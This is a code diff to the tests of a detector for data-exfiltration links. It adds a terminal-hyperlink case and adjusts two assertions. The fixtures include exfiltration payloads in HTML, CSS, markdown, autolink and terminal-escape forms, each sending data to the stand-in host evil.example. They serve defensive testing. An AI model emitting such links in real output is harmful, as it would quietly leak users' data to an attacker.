@@ -33,6 +33,7 @@ def find(text: str, around: Surroundings = AROUND) -> list[Finding]:
         (f"<form action=https://evil.example/{HEX}>", "html_attribute", "high"),
         (f"div{{background:url(//evil.example/{DATA})}}", "css_url", "high"),
         (f"\x1b]8;;https://evil.example/?d={DATA}\x07x\x1b]8;;\x07", "terminal_link", "high"),
+        (f"\x1b]8;;//evil.example/?d={DATA}\x07x\x1b]8;;\x07", "terminal_link", "high"),
         ("![a][r]\n\n[r]: https://evil.example/x?leak=1234", "markdown_reference", "medium"),
         (f"<https://evil.example/{DATA}>", "autolink", "high"),
         (f"open https://evil.example/?d={DATA}", "bare", "medium"),
@@ -108,7 +109,7 @@ def test_a_link_behind_more_than_is_looked_at_is_not_passed_in_silence(noise: st
     link = f"![x](https://evil.example/p?d={DATA})"
     views = read(noise * 100_000 + link)
     rules = [f.rule for f in DETECTOR.find(views, Surroundings())]
-    assert "links" in rules or not views.complete
+    assert {"links", "markdown_image:query"} & set(rules) or not views.complete
     assert "links" not in [f.rule for f in DETECTOR.find(read(noise * 500 + link), Surroundings())]
 
 
@@ -129,4 +130,4 @@ def test_hostile_text_is_not_much_dearer_than_ordinary_text(piece: str) -> None:
     ordinary = (words * size)[:size]
     hostile = (piece * size)[:size]
     cost(ordinary[:4096])
-    assert any(cost(hostile) <= 30 * cost(ordinary) for _ in range(4))
+    assert any(cost(hostile) <= 20 * cost(ordinary) for _ in range(4))
